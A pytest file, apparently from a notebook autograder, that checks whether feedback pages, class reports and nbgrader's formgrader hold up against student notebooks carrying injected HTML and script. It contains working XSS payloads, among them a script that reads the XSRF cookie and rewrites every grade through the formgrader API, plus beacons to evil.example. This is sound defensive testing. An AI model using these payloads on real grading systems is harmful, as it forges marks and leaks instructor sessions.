"""Injection notebooks in a real browser: feedback page, class report, nbgrader's formgrader.

The instructor's browser may write marks, so the attack that counts is a script that runs in it. Each
page is opened twice: as the product makes it, and with the sanitiser (or the escaping, and the
page's own policy) off, where the same notebook runs its script, loads its image and writes a mark.
"""

from __future__ import annotations

import os
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import jinja2
import pytest
from autograder.grading import feedback, sanitize
from chromium import chromium
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from autograder import report

from .arena import ASSIGNMENT, Arena, ClassFolder
from .attack import Attack, Inside

EVIL = "http://evil.example"
TOKEN = "the-instructor"
#: A script of the student's: it says that it ran, calls home, and gives itself every point.
SCRIPT = f"""\
window.ran = true;
new Image().src = "{EVIL}/ran";
var key = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1];
fetch("/formgrader/api/grades?submission_id=" + location.pathname.split("/")[3])
  .then(function (answer) {{ return answer.json(); }})
  .then(function (grades) {{ return Promise.all(grades.map(function (grade) {{
    grade.manual_score = 77;
    return fetch("/formgrader/api/grade/" + grade.id, {{method: "PUT",
      headers: {{"X-XSRFToken": key, "Content-Type": "application/json"}},
      body: JSON.stringify(grade)}});
  }})); }})
  .finally(function () {{ window.done = true; }});
"""
PAYLOADS = [
    f"<script>{SCRIPT}</script>",
    "<img src=x onerror='window.ran = true'>",
    f"<img src='{EVIL}/track.png'>",
    "<svg onload='window.ran = true'></svg>",
    f"<iframe src='{EVIL}/frame'></iframe>",
    f"<style>body {{ background: url({EVIL}/style.png) }}</style>",
    "<a id=link href='javascript:window.ran = true'>my plot</a>",
    f"<meta http-equiv=refresh content='0; url={EVIL}/away'>",
    "<details open ontoggle='window.ran = true'>x</details>",
]


#: Formulas that a careless converter, or MathJax, would make more of.
FORMULAS = [
    r"$x_1 + \text{<script>window.ran = true</script>}$",
    r"$$\href{javascript:window.ran = true}{\text{my plot}}$$",
    rf"$\style{{background:url({EVIL}/formula.png)}}{{x}} </math><img src=x onerror='window.ran = true'>$",
]
#: Code that two people hand in: the class report shows it side by side.
SHARED = f"""
def summary(values, labels):
    # </span></pre><script>{" ".join(SCRIPT.split())}</script>
    rows = ["<img src=x onerror='window.ran = true'>", "<img src='{EVIL}/shared.png'>"]
    for label, value in zip(labels, values):
        bar = "#" * int(value * 40)
        rows.append(f"{{label:>12}} {{bar}} {{value:.2f}}")
    width = max(len(row) for row in rows)
    for row in sorted(rows, key=len, reverse=True):
        print(row.ljust(width), end="|")  # </mark></pre><svg onload='window.ran = true'></svg>
"""


def inject(notebook: NotebookNode) -> None:
    """Every payload as output, as text, in a traceback and in a figure's place."""
    shown = "\n".join(f"display(HTML({payload!r}))" for payload in PAYLOADS[1:])
    script = f"display(HTML({PAYLOADS[0]!r}))"
    more = f"""\
display(Javascript({SCRIPT!r}))
display({{"image/svg+xml": "<svg onload='window.ran = true'></svg>"}}, raw=True)
display({{"text/markdown": "![]({EVIL}/markdown.png)", "text/plain": "shown"}}, raw=True)
print("\\x1b[31m<script>window.ran = true</script>")
raise ValueError("<img src=x onerror='window.ran = true'>")
"""
    heads = "from IPython.display import HTML, Javascript, display\n"
    notebook.cells.append(new_code_cell(heads + shown + "\n" + script))
    notebook.cells.append(new_code_cell(heads + more))
    notebook.cells.append(new_code_cell(SHARED))
    text = "\n\n".join(["My work", *PAYLOADS, f"![seen]({EVIL}/text.png)", *FORMULAS])
    notebook.cells.append(new_markdown_cell(text))


INJECTION = Attack(
    name="injection",
    family="injection into feedback",
    defence="outputs and texts are sanitised before any page holds them",
    off=Inside(),
    gained=lambda trace: "",
    edit=inject,
)
TWIN = replace(INJECTION, name="injection-again")
BENIGN = Attack("benign", "none", "none", Inside(), lambda trace: "")


def named_with_a_tag(_: Arena, folder: Path) -> None:
    """A broken archive whose name is a tag: the reason of the refusal quotes it."""
    (folder / f"{ASSIGNMENT}.ipynb").unlink()
    (folder / "<img src=x onerror='window.ran = true'> my work.zip").write_bytes(b"PK no archive")


NAMED = replace(BENIGN, name="named", files=named_with_a_tag)


@dataclass
class Visit:
    """What opening a page did."""

    ran: bool = False
    text: str = ""
    requests: list[str] = field(default_factory=list)

    @property
    def left(self) -> list[str]:
        """Requests to the student's host."""
        return [url for url in self.requests if url.startswith(EVIL)]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as running:
        yield running


@pytest.fixture(scope="module")
def graded(arena: Arena) -> Arena:
    """Both notebooks graded, as the product does, and with nothing sanitised for the control."""
    for attack in (INJECTION, TWIN, BENIGN, NAMED):
        arena.defended(attack)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sanitize, "clean_html", lambda html: html)
        patch.setattr(sanitize, "_clean_bundle", lambda bundle, *_: dict(bundle))
        patch.setattr(feedback, "clean_markdown", lambda source: source)
        for attack in (INJECTION, TWIN, NAMED):
            arena.control(attack).page()
    return arena


@pytest.fixture(scope="module")
def formgraders(graded: Arena) -> Iterator[dict[str, str]]:
    """nbgrader's formgrader on the class folder, and on that of the control; their addresses."""
    with formgrader(graded.real) as real, formgrader(graded.decoy) as decoy:
        yield {"real": real, "decoy": decoy}


@contextmanager
def formgrader(one: ClassFolder) -> Iterator[str]:
    """A Jupyter server with nbgrader's formgrader, as an instructor starts it."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    home = one.folder.root / "jupyter-home"
    home.mkdir()
    options = [
        "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}",
        f"--ServerApp.port={port}",
        "--ServerApp.port_retries=0",
        f"--IdentityProvider.token={TOKEN}",
        "--ServerApp.open_browser=False",
        "--ServerApp.allow_root=True",
        f"--ServerApp.root_dir={one.folder.root}",
    ]
    variables = {**os.environ, "HOME": str(home), "JUPYTER_RUNTIME_DIR": str(home / "runtime")}
    with (home / "log").open("wb") as log:
        server = subprocess.Popen(
            [sys.executable, "-m", "jupyter_server", *options],
            cwd=one.folder.root,
            env={**variables, "JUPYTER_CONFIG_DIR": str(home / "config")},
            stdout=log,
            stderr=log,
        )
    try:
        address = f"http://127.0.0.1:{port}"
        wait_for(f"{address}/formgrader?token={TOKEN}", home / "log")
        yield address
    finally:
        server.terminate()
        server.wait(20)


def wait_for(url: str, log: Path) -> None:
    """Wait until a server answers."""
    end = time.monotonic() + 90
    while time.monotonic() < end:
        try:
            urllib.request.urlopen(url, timeout=10).close()
        except urllib.error.HTTPError as error:
            raise AssertionError(f"{url}: {error}\n{log.read_text()[-3000:]}") from error
        except OSError:
            time.sleep(0.2)
        else:
            return
    raise AssertionError(log.read_text()[-3000:])


def visit(browser: Any, url: str, first: str = "") -> Visit:
    """Open a page, wait until it is still, and click what invites to."""
    seen = Visit()
    context = browser.new_context()

    def answer(route: Any) -> None:
        seen.requests.append(route.request.url)
        if route.request.url.startswith(("http://127.0.0.1", "file:")):
            route.continue_()
        else:
            route.fulfill(status=204)  # a page that is sent away stays where it is

    try:
        context.route("**/*", answer)
        page = context.new_page()
        if first:
            page.goto(first, wait_until="domcontentloaded")
        page.goto(url, wait_until="load")
        for link in page.query_selector_all("text=my plot"):
            link.evaluate("e => e.dispatchEvent(new MouseEvent('click', {bubbles: true}))")
        page.wait_for_function(
            "window.ran !== true || window.done === true || location.protocol === 'file:'"
        )
        page.wait_for_timeout(300)
        seen.ran = page.evaluate("window.ran === true")
        seen.text = page.inner_text("body")
    finally:
        context.close()
    return seen


def marks(one: ClassFolder) -> list[Any]:
    """Every row of the gradebook that holds a mark or a comment."""
    with sqlite3.connect(one.folder.gradebook) as gradebook:
        rows: list[Any] = []
        for table in ("grade", "comment", "submitted_assignment", "submitted_notebook"):
            rows += gradebook.execute(f"SELECT * FROM {table} ORDER BY id").fetchall()
    return rows


def submission_page(one: ClassFolder, address: str, student: str) -> str:
    """The address of a student's notebook in formgrader."""
    with sqlite3.connect(one.folder.gradebook) as gradebook:
        (found,) = gradebook.execute(
            "SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a "
            "ON n.assignment_id = a.id WHERE a.student_id = ?",
            (student,),
        ).fetchone()
    return f"{address}/formgrader/submissions/{found}/"


def test_the_feedback_page_runs_and_loads_nothing(browser, graded):
    page = graded.real.recorder.feedback_page("injection")
    seen = visit(browser, page.as_uri())
    assert "My work" in seen.text
    assert "<msub><mi>x</mi><mn>1</mn></msub>" in page.read_text()  # formulas are drawn on it
    assert (seen.ran, seen.left) == (False, [])
    assert seen.requests == [page.as_uri()]


def test_without_sanitiser_and_policy_the_feedback_page_runs_the_script(browser, graded, tmp_path):
    page = tmp_path / "page.html"
    text = graded.decoy.page("injection").replace("Content-Security-Policy", "x-no-policy")
    page.write_text(text.replace("http-equiv=refresh", ""))
    seen = visit(browser, page.as_uri())
    assert seen.ran
    assert seen.left


def test_the_pages_policy_alone_stops_scripts_and_requests(browser, graded, tmp_path):
    page = tmp_path / "page.html"
    page.write_text(graded.decoy.page("injection").replace("http-equiv=refresh", ""))
    seen = visit(browser, page.as_uri())
    assert (seen.ran, seen.left) == (False, [])


def class_pages(one: ClassFolder, arena: Arena, patch: pytest.MonkeyPatch | None = None):
    """The class report's pages by name; with a patch, file names shown and nothing escaped."""
    if patch is not None:
        patch.setattr(report.evidence, "without_names", lambda text, names: text)
        patch.setattr(
            report, "Environment", lambda **k: jinja2.Environment(**{**k, "autoescape": False})
        )
    written = report.write_report(
        one.folder, arena.course, arena.assignment, names=True, similarity=True
    )
    return {path.name: path for path in written}


def test_the_class_report_runs_and_loads_nothing_and_changes_no_mark(browser, graded):
    before = marks(graded.real)
    pages = class_pages(graded.real, graded)
    report_page = visit(browser, pages["report.html"].as_uri())
    alike = visit(browser, pages["similarity.html"].as_uri())
    assert "The zip file … is not read" in report_page.text
    assert "injection (" not in report_page.text
    assert "</span></pre><script>" in alike.text
    for seen, name in ((report_page, "report.html"), (alike, "similarity.html")):
        assert (seen.ran, seen.left) == (False, [])
        assert seen.requests == [pages[name].as_uri()]
    assert marks(graded.real) == before


@pytest.mark.parametrize("name", ["report.html", "similarity.html"])
def test_without_escaping_and_policy_the_class_report_runs_the_script(
    browser, graded, tmp_path, monkeypatch, name
):
    text = class_pages(graded.decoy, graded, monkeypatch)[name].read_text()
    text = text.replace("http-equiv=refresh", "")
    page = tmp_path / name
    page.write_text(text.replace("Content-Security-Policy", "x-no-policy"))
    seen = visit(browser, page.as_uri())
    assert seen.ran
    assert seen.left or name == "report.html"
    page.write_text(text)
    seen = visit(browser, page.as_uri())
    assert (seen.ran, seen.left) == (False, []), "the policy alone does not hold"


def test_formgrader_runs_nothing_and_changes_no_mark(browser, graded, formgraders):
    before = marks(graded.real)
    address = formgraders["real"]
    login = f"{address}/formgrader?token={TOKEN}"
    seen = visit(browser, submission_page(graded.real, address, "injection"), login)
    plain = visit(browser, submission_page(graded.real, address, "benign"), login)
    assert "My work" in seen.text
    assert (seen.ran, seen.left) == (False, [])
    assert hosts(seen) <= hosts(plain)
    assert marks(graded.real) == before


def test_without_the_sanitiser_formgrader_lets_a_notebook_write_its_mark(
    browser, graded, formgraders
):
    before = marks(graded.decoy)
    address = formgraders["decoy"]
    login = f"{address}/formgrader?token={TOKEN}"
    seen = visit(browser, submission_page(graded.decoy, address, "injection"), login)
    assert seen.ran
    assert seen.left
    assert marks(graded.decoy) != before


def hosts(seen: Visit) -> set[str]:
    """Where a page's requests went."""
    return {url.split("/")[2] for url in seen.requests if url.startswith("http")}
